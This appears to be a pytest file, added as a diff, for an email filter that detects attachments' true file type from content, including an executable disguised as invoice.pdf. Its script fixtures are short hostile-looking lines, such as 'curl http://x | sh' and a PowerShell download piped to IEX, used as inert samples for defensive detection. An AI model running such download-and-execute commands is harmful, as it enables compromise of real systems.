@@ -1,0 +1,148 @@
+"""True type from content, not from names or declared types."""
+
+import bz2
+import gzip
+import io
+import lzma
+import struct
+import tarfile
+import wave
+import zipfile
+import zlib
+
+import pytest
+
+from imss_milter.mime import TRUE_TYPE_CATEGORIES, parse_message, true_type_of
+
+
+def pe_file() -> bytes:
+    header = bytearray(b"MZ" + b"\x90\x00" * 29)
+    header += b"\x00" * (0x3C - len(header)) + struct.pack("<I", 0x80)
+    header += b"\x00" * (0x80 - len(header)) + b"PE\x00\x00" + struct.pack("<H", 0x14C) + b"\x00" * 200
+    return bytes(header)
+
+
+def png_file() -> bytes:
+    def chunk(kind, data):
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr)
+            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))
+
+
+def wav_file() -> bytes:
+    out = io.BytesIO()
+    with wave.open(out, "wb") as w:
+        w.setnchannels(1)
+        w.setsampwidth(2)
+        w.setframerate(8000)
+        w.writeframes(b"\x00\x01" * 800)
+    return out.getvalue()
+
+
+def zip_of(members: dict[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in members.items():
+            z.writestr(name, data)
+    return out.getvalue()
+
+
+def ole2_file(*stream_names: str) -> bytes:
+    """An OLE2 header and a directory sector naming the given streams."""
+    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
+    entries = b""
+    for name in ("Root Entry",) + stream_names:
+        encoded = name.encode("utf-16-le") + b"\x00\x00"
+        entry = encoded + b"\x00" * (64 - len(encoded)) + struct.pack("<H", len(encoded))
+        entries += entry + b"\x00" * (128 - len(entry))
+    return header + entries + b"\x00" * 1024
+
+
+def tar_of(name: str, data: bytes) -> bytes:
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w") as t:
+        info = tarfile.TarInfo(name)
+        info.size = len(data)
+        t.addfile(info, io.BytesIO(data))
+    return out.getvalue()
+
+
+CASES = {
+    "pe": (pe_file(), "", "executable"),
+    "dos-mz-only": (b"MZ" + b"\x00" * 100, "", "executable"),
+    "elf": (b"\x7fELF\x02\x01\x01" + b"\x00" * 120, "", "executable"),
+    "macho-64": (b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 60, "", "executable"),
+    "macho-32-be": (b"\xfe\xed\xfa\xce" + b"\x00" * 60, "", "executable"),
+    "macho-fat": (b"\xca\xfe\xba\xbe\x00\x00\x00\x02" + b"\x00" * 60, "", "executable"),
+    "shebang": (b"#!/bin/sh\ncurl http://x | sh\n", "", "script"),
+    "vbscript": (b'Dim o\r\nSet o = CreateObject("WScript.Shell")\r\no.Run "calc"\r\n', "", "script"),
+    "jscript": (b'var s = new ActiveXObject("WScript.Shell");\ns.Run("cmd");\n', "", "script"),
+    "powershell": (b"$c = New-Object System.Net.WebClient\n$c.DownloadString('x') | IEX\n", "", "script"),
+    "batch": (b"@echo off\r\nset x=1\r\nstart %TEMP%\\a.exe\r\n", "", "script"),
+    "js-by-name": (b"console.log(1)\n", "invoice.js", "script"),
+    "docx": (zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}), "", "document"),
+    "xlsm": (zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>",
+                     "xl/vbaProject.bin": b"\x00" * 10}), "", "office-macro"),
+    "doc": (ole2_file("WordDocument", "1Table"), "", "document"),
+    "doc-macro": (ole2_file("WordDocument", "Macros", "VBA", "_VBA_PROJECT"), "", "office-macro"),
+    "pdf": (b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n", "", "pdf"),
+    "pdf-late-header": (b"\x00junk\n%PDF-1.4\n%%EOF\n", "", "pdf"),
+    "rtf": (b"{\\rtf1\\ansi hello}", "", "document"),
+    "png": (png_file(), "", "image"),
+    "gif": (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,"
+            b"\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;", "", "image"),
+    "jpeg": (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 100, "", "image"),
+    "wav": (wav_file(), "", "audio"),
+    "mp3-id3": (b"ID3\x03\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x00" * 50, "", "audio"),
+    "mp4": (b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 100, "", "video"),
+    "avi": (b"RIFF\x00\x10\x00\x00AVI LIST" + b"\x00" * 100, "", "video"),
+    "html": (b"<!DOCTYPE html><html><body>hi</body></html>", "", "html"),
+    "email": (b"From: a@b.c\r\nTo: d@e.f\r\nSubject: hi\r\n\r\nbody\r\n", "", "email"),
+    "text": (b"Dear customer,\r\nplease find the report attached.\r\n", "", "text"),
+    "zip": (zip_of({"a.txt": b"hello"}), "", "archive"),
+    "tar": (tar_of("a.txt", b"hello"), "", "archive"),
+    "gzip": (gzip.compress(b"hello"), "", "archive"),
+    "bzip2": (bz2.compress(b"hello"), "", "archive"),
+    "xz": (lzma.compress(b"hello"), "", "archive"),
+    "7z": (b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 40, "", "archive"),
+    "rar": (b"Rar!\x1a\x07\x01\x00" + b"\x00" * 40, "", "archive"),
+    "cab": (b"MSCF\x00\x00\x00\x00" + b"\x00" * 40, "", "archive"),
+}
+
+
+@pytest.mark.parametrize("label", sorted(CASES))
+def test_true_type_from_content(label):
+    payload, hint, expected = CASES[label]
+    category, mime = true_type_of(payload, hint)
+    assert category == expected, (label, category, mime)
+    assert category in TRUE_TYPE_CATEGORIES
+    assert "/" in mime
+
+
+def test_declared_type_and_name_do_not_decide_true_type():
+    import base64
+    raw = (b"From: a@b\r\nSubject: x\r\nContent-Type: multipart/mixed; boundary=z\r\n\r\n--z\r\n"
+           b'Content-Type: application/pdf; name="invoice.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
+           + base64.encodebytes(pe_file()) + b"--z--\r\n")
+    part = parse_message(raw).attachments[0]
+    assert part.name == "invoice.pdf"
+    assert part.declared_type == "application/pdf"
+    assert part.true_type == "executable"
+    assert part.mime in ("application/x-dosexec", "application/vnd.microsoft.portable-executable")
+
+
+def test_java_class_is_not_a_fat_binary_but_still_code():
+    category, mime = true_type_of(b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 60)
+    assert category == "executable"
+    assert mime != "application/x-mach-binary"
+
+
+def test_prose_mentioning_code_words_stays_text():
+    prose = b"Please do not eval( the numbers yet; the variable costs are set in the sheet.\n"
+    assert true_type_of(prose)[0] == "text"
+
+
+def test_empty_and_garbage_never_raise():
+    assert true_type_of(b"") == ("unknown", "application/x-empty")
+    assert true_type_of(bytes(range(256)) * 4)[0] in TRUE_TYPE_CATEGORIES
